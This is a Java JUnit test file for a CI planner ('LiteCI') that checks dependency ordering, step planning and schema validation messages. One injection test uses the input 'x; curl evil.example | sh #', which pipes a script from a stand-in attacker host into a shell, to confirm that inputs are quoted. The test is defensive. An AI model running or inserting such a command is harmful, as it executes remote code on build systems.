package io.liteci.plan;

import static io.liteci.support.Fixtures.INTENT_HEADER;
import static io.liteci.support.Fixtures.messages;
import static io.liteci.support.Fixtures.plan;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;

class PlannerTest {

    @Test
    void shouldPlanOneJobPerComponentInDependencyOrder() {
        Plan plan = valid("""
                    - {name: web, type: app, inputs: {namespace: shop}, dependsOn: [api]}
                    - {name: db, type: app, inputs: {namespace: shop}}
                    - {name: api, type: app, inputs: {namespace: shop}, dependsOn: [db, cache]}
                    - {name: cache, type: app, inputs: {namespace: shop}}
                    - {name: docs, type: app, inputs: {namespace: shop}}
                """);

        assertThat(plan.jobs()).extracting(PlannedJob::component).containsExactly("db", "cache", "api", "web", "docs");
        assertThat(plan.levels()).containsExactly(List.of("db", "cache", "docs"), List.of("api"), List.of("web"));
    }

    @Test
    void shouldKeepIntentOrderAmongIndependentComponents() {
        Plan plan = valid("""
                    - {name: c, type: app, inputs: {namespace: shop}}
                    - {name: a, type: app, inputs: {namespace: shop}}
                    - {name: b, type: app, inputs: {namespace: shop}, dependsOn: [c]}
                """);

        assertThat(plan.jobs()).extracting(PlannedJob::component).containsExactly("c", "a", "b");
    }

    @Test
    void shouldPlanEveryStepWithItsCommandTimeoutRetriesAndEnvironment() {
        PlannedJob job = valid("""
                    - {name: api, type: app, inputs: {namespace: shop, path: "k8s dir"}}
                """).jobs().get(0);

        assertThat(job.job()).as("the binding's default job").isEqualTo("deploy");
        assertThat(job.agent()).contains("linux || windows");
        assertThat(job.timeoutSeconds()).contains(3600L);
        assertThat(job.labels()).containsExactly(Map.entry("stage", "deploy"), Map.entry("tool", "kubectl"));
        assertThat(job.steps()).containsExactly(
                new PlannedStep("apply", "kubectl apply --namespace shop -f 'k8s dir'/api.yaml", 150, 2, "fail",
                        Map.of("RELEASE", "shop-api")),
                new PlannedStep("announce", "echo deployed hello with deploy", 600, 0, "continue", Map.of()));
    }

    @Test
    void shouldPlanStepsWhoseEnvironmentCannotBeChanged() {
        PlannedJob job = valid("""
                    - {name: api, type: app, inputs: {namespace: shop}}
                """).jobs().get(0);

        for (PlannedStep step : job.steps()) {
            assertThatThrownBy(() -> step.env().put("PATH", "/tmp")).as(step.name())
                    .isInstanceOf(UnsupportedOperationException.class);
        }
    }

    @Test
    void shouldQuoteInputsSoThatTheyCannotInjectShell() {
        PlannedJob job = valid("""
                    - name: api
                      type: app
                      job: build
                      inputs: {namespace: shop, path: "x; curl evil.example | sh #"}
                """).jobs().get(0);

        assertThat(job.steps().get(0).command()).isEqualTo("make -C 'x; curl evil.example | sh #' build");
    }

    @Test
    void shouldRunTheJobTheIntentPicks() {
        assertThat(valid("""
                    - {name: api, type: app, job: build, inputs: {namespace: shop}}
                """).jobs().get(0).job()).isEqualTo("build");
    }

    @Test
    void shouldRunTheRequestedJobForEveryComponentThatOffersIt() {
        Planned planned = plan(INTENT_HEADER + """
                    - {name: api, type: app, job: deploy, inputs: {namespace: shop}}
                """, new PlanOptions(Optional.of("build"), List.of()));

        assertThat(planned.plan().orElseThrow().jobs().get(0).job()).isEqualTo("build");
    }

    @Test
    void shouldRefuseARequestedJobThatNoComponentOffers() {
        assertThat(problems(new PlanOptions(Optional.of("destroy"), List.of()), """
                    - {name: api, type: app, inputs: {namespace: shop}}
                """)).containsExactly("no component of intent 'shop' has a model that offers job 'destroy'");
    }

    @Test
    void shouldPlanOnlyTheChosenComponentsAndWhatTheyDependOn() {
        Plan plan = plan(INTENT_HEADER + """
                    - {name: db, type: app, inputs: {namespace: shop}}
                    - {name: api, type: app, inputs: {namespace: shop}, dependsOn: [db]}
                    - {name: web, type: app, inputs: {namespace: shop}, dependsOn: [api]}
                    - {name: docs, type: app, inputs: {namespace: shop}}
                """, new PlanOptions(Optional.empty(), List.of("api"))).plan().orElseThrow();

        assertThat(plan.jobs()).extracting(PlannedJob::component).containsExactly("db", "api");
    }

    @Test
    void shouldRefuseAnUnknownTypeListingTheKnownOnes() {
        assertThat(problems("""
                    - {name: api, type: ap, inputs: {namespace: shop}}
                """)).containsExactly("intent.yaml:7:19: component 'api': unknown type 'ap'. Did you mean 'app'?"
                + " Known types: app");
    }

    @Test
    void shouldRefuseInputsThatBreakTheSchema() {
        assertThat(problems("""
                    - name: api
                      type: app
                      inputs:
                        namespace: Shop
                        replicas: "3"
                        colour: blue
                """)).containsExactly(
                "intent.yaml:10:9: component 'api': 'spec.components[0].inputs.namespace' is 'Shop', which does"
                        + " not match the pattern ^[a-z0-9]([-a-z0-9]*[a-z0-9])?$",
                "intent.yaml:11:9: component 'api': 'spec.components[0].inputs.replicas' must be an integer, found"
                        + " a string",
                "intent.yaml:12:9: component 'api': unknown field 'colour' in 'spec.components[0].inputs'. Known"
                        + " fields: namespace, path, message, replicas, url");
    }

    @Test
    void shouldSayWhichBoundANumberOrListBreaks() {
        assertThat(problems("""
                    - {name: api, type: app, inputs: {namespace: shop, replicas: 0}}
                    - {name: web, type: app, inputs: {namespace: shop, replicas: 11}}
                """)).containsExactly(
                "intent.yaml:7:56: component 'api': 'spec.components[0].inputs.replicas' is 0; the least allowed"
                        + " is 1",
                "intent.yaml:8:56: component 'web': 'spec.components[1].inputs.replicas' is 11; the most allowed"
                        + " is 10");
        assertThat(messages(plan(INTENT_HEADER.replace("components:", "components: []")).problems()))
                .containsExactly("intent.yaml:6:3: 'spec.components' must hold at least 1 item, found 0");
    }

    @Test
    void shouldRefuseMissingRequiredInputs() {
        assertThat(problems("""
                    - {name: api, type: app, inputs: {path: x}}
                """)).containsExactly("intent.yaml:7:30: component 'api': missing required field 'namespace' in"
                + " 'spec.components[0].inputs'");
    }

    @Test
    void shouldRefuseAnUnknownJobListingTheAvailableOnes() {
        assertThat(problems("""
                    - {name: api, type: app, job: deplyo, inputs: {namespace: shop}}
                """)).containsExactly("intent.yaml:7:30: component 'api': unknown job 'deplyo' for model 'app'."
                + " Did you mean 'deploy'? Available jobs: build, deploy, smoke");
    }

    @Test
    void shouldRefuseAJobTheBindingDoesNotOffer() {
        assertThat(problems("""
                    - {name: api, type: app, job: destroy, inputs: {namespace: shop}}
                """)).containsExactly("intent.yaml:7:30: component 'api': job 'destroy' of model 'app' is not"
                + " available under binding 'app-default'. Available jobs: build, deploy, smoke");
    }

    @Test
    void shouldRefuseUnknownDependencies() {
        assertThat(problems("""
                    - {name: db, type: app, inputs: {namespace: shop}}
                    - {name: api, type: app, inputs: {namespace: shop}, dependsOn: [dbb, api]}
                """)).containsExactly(
                "intent.yaml:8:69: component 'api': depends on unknown component 'dbb'. Did you mean 'db'?",
                "intent.yaml:8:74: component 'api': depends on itself");
    }

    @Test
    void shouldRefuseCyclesNamingTheComponentsInvolved() {
        assertThat(problems("""
                    - {name: docs, type: app, inputs: {namespace: shop}}
                    - {name: api, type: app, inputs: {namespace: shop}, dependsOn: [web]}
                    - {name: web, type: app, inputs: {namespace: shop}, dependsOn: [db]}
                    - {name: db, type: app, inputs: {namespace: shop}, dependsOn: [api]}
                    - {name: cli, type: app, inputs: {namespace: shop}, dependsOn: [api]}
                """)).containsExactly("intent.yaml:8:57: component 'api': dependency cycle: api -> web -> db -> api");
    }

    @Test
    void shouldRefuseDuplicateComponentNames() {
        assertThat(problems("""
                    - {name: api, type: app, inputs: {namespace: shop}}
                    - {name: api, type: app, inputs: {namespace: shop}}
                """)).containsExactly("intent.yaml:8:8: component 'api': duplicate component name 'api' (first used"
                + " at line 7)");
    }

    @Test
    void shouldRefuseAnInputThatIsNeitherGivenNorDefaulted() {
        assertThat(problems("""
                    - {name: probe, type: app, job: smoke, inputs: {namespace: shop}}
                """)).containsExactly("intent.yaml:7:44: component 'probe': step 'probe' of job 'smoke' uses input"
                + " 'url', which is neither given nor defaulted by the schema");
    }

    @Test
    void shouldReportEveryProblemAtOnce() {
        List<String> problems = problems("""
                    - {name: api, type: ap, inputs: {namespace: shop}}
                    - {name: web, type: app, job: nope, inputs: {namespace: shop}, dependsOn: [ghost]}
                    - {name: db, type: app, inputs: {namespace: BAD}}
                    - {name: db, tpye: app}
                """);

        assertThat(problems).hasSize(6).anyMatch(message -> message.contains("unknown type 'ap'"))
                .anyMatch(message -> message.contains("unknown job 'nope'"))
                .anyMatch(message -> message.contains("unknown component 'ghost'"))
                .anyMatch(message -> message.contains("'BAD', which does not match"))
                .anyMatch(message -> message.contains("component 'db': unknown field 'tpye'"))
                .anyMatch(message -> message.contains("component 'db': missing required field 'type'"));
    }

    @Test
    void shouldNotMistakeADependencyOnAnInvalidComponentForAnUnknownOne() {
        assertThat(problems("""
                    - {name: db, type: app, inputs: {namespace: shop}, dependsOn: [x, x]}
                    - {name: api, type: app, inputs: {namespace: shop}, dependsOn: [db]}
                """)).containsExactly("intent.yaml:7:56: component 'db': 'spec.components[0].dependsOn' must"
                + " have only unique items in the array");
    }

    @Test
    void shouldRefuseAnIntentOfAnotherKind() {
        assertThat(messages(plan("apiVersion: liteci.io/v1\nkind: JobRegistry\n").problems()))
                .containsExactly("intent.yaml:2:1: expected kind Intent, found 'JobRegistry'");
    }

    @Test
    void shouldRefuseAModelThatNeedsANewerLiteci() {
        Planned planned = io.liteci.support.Fixtures.engine("models-future").plan("intent.yaml", (INTENT_HEADER + """
                    - {name: api, type: app, inputs: {namespace: shop}}
                """).getBytes(), PlanOptions.NONE);

        assertThat(messages(planned.problems())).singleElement().asString().matches("intent.yaml:7:19: component"
                + " 'api': model 'app' needs LiteCI 99.0.0 or newer \\(binding 'app-default'\\); this is LiteCI .*");
    }

    private static Plan valid(String components) {
        Planned planned = plan(INTENT_HEADER + components);
        assertThat(messages(planned.problems())).isEmpty();
        return planned.plan().orElseThrow();
    }

    private static List<String> problems(String components) {
        return problems(PlanOptions.NONE, components);
    }

    private static List<String> problems(PlanOptions options, String components) {
        Planned planned = plan(INTENT_HEADER + components, options);
        assertThat(planned.plan()).isEmpty();
        return messages(planned.problems());
    }
}
